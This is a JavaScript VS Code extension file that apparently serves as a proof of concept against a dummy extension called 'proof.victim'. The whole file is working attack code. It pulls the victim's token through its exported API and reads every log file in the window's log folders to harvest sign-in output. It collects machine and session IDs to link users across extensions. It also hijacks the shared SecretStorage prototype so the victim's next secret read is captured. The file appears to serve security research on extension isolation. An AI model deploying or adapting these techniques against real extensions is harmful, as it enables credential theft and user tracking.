"use strict";
const fs = require("node:fs");
const path = require("node:path");
const { attack } = require("./attack");

exports.activate = (context) =>
  attack(context, "secrets", {
    async exports(_facts, vscode) {
      const victim = vscode.extensions.getExtension("proof.victim");
      return (await victim.activate()).token();
    },
    // What the victim wrote into its log.
    async logs() {
      const folder = path.dirname(context.logUri.fsPath);
      const window = folder.replace(/-\d+$/, "");
      const folders = [folder, window, ...[1, 2, 3, 4, 5, 6, 7, 8].map((host) => `${window}-${host}`)];
      let found = [];
      for (let i = 0; i < 50 && !found.join("").includes("signed in"); i += 1) {
        await new Promise((resolve) => setTimeout(resolve, 100));
        found = folders.flatMap((each) => {
          try {
            const files = fs.readdirSync(each, { recursive: true }).map((name) => path.join(each, name));
            return files.filter((file) => file.endsWith(".log")).map((file) => fs.readFileSync(file, "utf8"));
          } catch (error) {
            return String(error);
          }
        });
      }
      return found;
    },
    // Who hears the same ids from two extensions knows that they have the same user.
    async ids(_facts, vscode) {
      return `${vscode.env.machineId} ${vscode.env.sessionId}`;
    },
    // Extensions of one host share their classes: the next read of the victim passes by here.
    async prototype() {
      const shared = Object.getPrototypeOf(context.secrets);
      const { get } = shared;
      return new Promise((resolve) => {
        shared.get = async function taken(...words) {
          const value = await get.apply(this, words);
          if (this !== context.secrets && value) {
            shared.get = get;
            resolve(value);
          }
          return value;
        };
      });
    },
  });
